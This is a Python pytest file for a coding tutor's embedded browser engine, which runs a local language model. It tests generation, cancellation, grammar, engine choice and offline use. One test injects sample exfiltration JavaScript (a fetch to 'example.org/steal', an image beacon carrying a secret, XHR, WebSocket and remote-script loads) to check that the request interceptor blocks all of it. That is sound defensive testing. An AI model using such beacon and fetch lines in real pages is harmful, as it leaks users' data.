"""The in-app browser engine: the real default model in a QtWebEngine page (offscreen), cancel, the request
interceptor and the loopback server's secret, engine auto-selection, and `tutor hint --engine browser`."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from tutor.engines.base import GenerationParams
from tutor.engines.select import choose, register_browser
from tutor.paths import resources_dir

pytestmark = pytest.mark.skipif(
    not (resources_dir() / "web" / "index.html").is_file(),
    reason="the browser engine's files are not built (packaging/install.sh builds them)",
)


@pytest.fixture(scope="module")
def browser(qapp, default_model: Path):  # type: ignore[no-untyped-def]
    from ui.web.engine import BrowserEngine

    engine = BrowserEngine()
    engine.load(default_model)
    yield engine
    engine.close()


@pytest.mark.slow
def test_real_model_loads_and_generates_in_the_page(browser) -> None:  # type: ignore[no-untyped-def]
    info = browser.info()
    assert info.name == "browser" and info.backend in ("wasm", "webgpu") and info.model_name == "Gemma 3 270m"
    assert info.details["cross_origin_isolated"] is True  # COOP/COEP work: WASM threads are possible
    assert info.details["multithread"] is (info.threads > 1)
    adapter = info.details["webgpu_adapter"]
    assert adapter["available"] or adapter["reason"]  # what happened is reported, never guessed
    generation = browser.generate(
        "def add(a, b):\n", GenerationParams(max_tokens=16, temperature=0.0, seed=1)
    )
    pieces = list(generation)
    assert len(pieces) >= 5 and generation.stats.completion_tokens == len(pieces)
    assert generation.stats.finish == "length"


@pytest.mark.slow
def test_greedy_tokens_match_the_native_engine(browser, engine) -> None:  # type: ignore[no-untyped-def]
    params = GenerationParams(max_tokens=12, temperature=0.0, seed=1, repeat_penalty=1.0)
    assert (
        browser.generate("The capital of France is", params).collect()
        == engine.generate("The capital of France is", params).collect()
    )


@pytest.mark.slow
def test_cancel_stops_mid_stream(browser) -> None:  # type: ignore[no-untyped-def]
    generation = browser.generate(
        "Once upon a time", GenerationParams(max_tokens=300, temperature=0.7, seed=2)
    )
    count = 0
    for _ in generation:
        count += 1
        if count == 3:
            browser.cancel()
    assert generation.stats.finish == "cancelled" and count < 60


@pytest.mark.slow
def test_grammar_is_applied(browser) -> None:  # type: ignore[no-untyped-def]
    from tutor.feedback.prompts import HINT_GRAMMAR

    text = browser.generate(
        "Why does my loop never stop?\n",
        GenerationParams(max_tokens=40, temperature=1.0, seed=3),
        HINT_GRAMMAR,
    ).collect()
    assert text.startswith("Explanation: ") and "`" not in text


def test_interceptor_blocks_everything_not_to_the_app_and_the_server_wants_its_secret(browser) -> None:  # type: ignore[no-untyped-def]
    outside = socket.socket()
    outside.bind(("127.0.0.1", 0))
    outside.listen(8)
    outside.settimeout(0.2)
    port = outside.getsockname()[1]
    contacted: list[object] = []

    def watch() -> None:
        deadline = time.monotonic() + 6
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                contacted.append(outside.accept())

    watcher = threading.Thread(target=watch)
    watcher.start()
    before = sum(browser.interceptor.blocked.values())
    script = f"""
      fetch('https://example.org/steal?d=1').catch(() => {{}});
      fetch('http://127.0.0.1:{port}/fetch').catch(() => {{}});
      const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:{port}/xhr'); x.send();
      const i = new Image(); i.src = 'http://127.0.0.1:{port}/pixel.png?secret=code'; document.body.appendChild(i);
      const s = document.createElement('script'); s.src = 'https://cdn.example.org/x.js'; document.head.appendChild(s);
      try {{ new WebSocket('ws://127.0.0.1:{port}/ws'); }} catch (e) {{}}
    """
    browser._js(script)
    from PySide6.QtCore import QCoreApplication

    deadline = time.monotonic() + 6
    while time.monotonic() < deadline and sum(browser.interceptor.blocked.values()) - before < 6:
        QCoreApplication.processEvents()
        time.sleep(0.02)
    watcher.join()
    outside.close()
    blocked = browser.interceptor.blocked_urls
    for needle in (
        "example.org/steal",
        f"{port}/fetch",
        f"{port}/xhr",
        "pixel.png",
        "cdn.example.org",
        f"{port}/ws",
    ):
        assert any(needle in url for url in blocked), (needle, blocked)
    assert {"Image", "Script", "WebSocket"} <= set(browser.interceptor.blocked)  # counted by kind
    assert contacted == []  # nothing reached the other local port, the WebSocket included
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(f"{browser.server.origin}/index.html", timeout=5)
    assert refused.value.code == 403
    with urllib.request.urlopen(f"{browser.server.base_url}index.html", timeout=5) as page:
        assert page.headers["Cross-Origin-Embedder-Policy"] == "require-corp"


def test_auto_means_native_and_doctor_reports_the_probe(browser) -> None:  # type: ignore[no-untyped-def]
    from tutor.doctor import _engines

    register_browser(lambda: browser, browser.probe)
    choice = choose("auto")
    assert choice.name == "native" and "auto means native" in choice.reason  # one rule, see tutor.session
    assert choose("browser").name == "browser" and choose("native").name == "native"
    report = _engines()
    adapter = browser.probe()["webgpu"]
    assert report["auto_choice"].startswith("native") and report["cross_origin_isolated"] is True
    assert report["webgpu_adapter"].startswith("none:") != bool(adapter["available"])  # what the page said


@pytest.mark.slow
def test_tutor_hint_with_the_browser_engine(tmp_path: Path, default_model: Path) -> None:
    code = tmp_path / "code.py"
    from tutor.exercises import load_bundled

    code.write_text(load_bundled().find("sum_of_evens").starter)
    tutor = Path(sys.executable).with_name("tutor")
    result = subprocess.run(
        [
            str(tutor),
            "hint",
            str(code),
            "-e",
            "sum_of_evens",
            "--engine",
            "browser",
            "--repairs",
            "0",
            "--model",
            str(default_model),
            "--json",
        ],
        capture_output=True,
        text=True,
        timeout=400,
        stdin=subprocess.DEVNULL,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    data = json.loads(result.stdout)
    assert (
        data["status"] == "hint"
        and data["engine"]["name"] == "browser"
        and data["engine"]["backend"] == "wasm"
    )


@pytest.mark.slow
def test_the_app_can_use_the_browser_engine(qtbot, default_model: Path) -> None:  # type: ignore[no-untyped-def]
    from tutor.exercises import load_bundled
    from tutor.settings import Settings
    from ui.main_window import MainWindow

    settings = Settings.load()
    settings.engine = "browser"
    settings.save()
    win = MainWindow(load_bundled(), model_path=str(default_model))
    qtbot.addWidget(win)
    win.show()
    qtbot.waitUntil(lambda: win.engine_info is not None, timeout=120_000)
    assert win.engine_info.name == "browser" and "browser" in win.status_panel.engine_label.text()
    assert win.status_panel.engine_choice.currentData() == "browser"


def _offline_with_loopback() -> list[str] | None:
    import shutil

    if not (shutil.which("unshare") and shutil.which("ip")):
        return None
    probe = subprocess.run(["unshare", "-n", "sh", "-c", "ip link set lo up"], capture_output=True)
    return (
        ["unshare", "-n", "sh", "-c", 'ip link set lo up && exec "$@"', "offline"]
        if probe.returncode == 0
        else None
    )


@pytest.mark.slow
def test_browser_engine_hint_with_networking_cut_off(tmp_path: Path, default_model: Path) -> None:
    """No network at all (a fresh network namespace with only loopback up): the page, wllama and the model all
    come from the app's own loopback server, so the browser engine still works."""
    prefix = _offline_with_loopback()
    if prefix is None:
        pytest.skip("unshare -n with ip is not available here")
    code = tmp_path / "code.py"
    code.write_text("def sum_of_evens(numbers):\n    return 0\n")
    tutor = str(Path(sys.executable).with_name("tutor"))
    result = subprocess.run(
        [
            *prefix,
            tutor,
            "hint",
            str(code),
            "-e",
            "sum_of_evens",
            "--engine",
            "browser",
            "--repairs",
            "0",
            "--model",
            str(default_model),
            "--json",
        ],
        capture_output=True,
        text=True,
        timeout=400,
        stdin=subprocess.DEVNULL,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert json.loads(result.stdout)["engine"]["name"] == "browser"


@pytest.mark.slow
def test_the_shipped_finetune_runs_in_the_page(qapp, shipped_finetune: Path) -> None:  # type: ignore[no-untyped-def]
    """The default model where RAM allows (Q4_K_M with its fine-tuned matrices in Q8_0) loads in wllama and
    writes the same greedy tokens as the native engine."""
    from tutor.engines.native import NativeEngine
    from ui.web.engine import BrowserEngine

    params = GenerationParams(max_tokens=12, temperature=0.0, seed=1, repeat_penalty=1.0)
    prompt = "def is_even(n):\n"
    browser = BrowserEngine()
    browser.load(shipped_finetune)
    try:
        assert browser.info().name == "browser" and "Qwen" in browser.info().model_name
        in_page = browser.generate(prompt, params).collect()
    finally:
        browser.close()
    native = NativeEngine()
    native.load(shipped_finetune)
    try:
        assert in_page == native.generate(prompt, params).collect() and in_page.strip()
    finally:
        native.close()
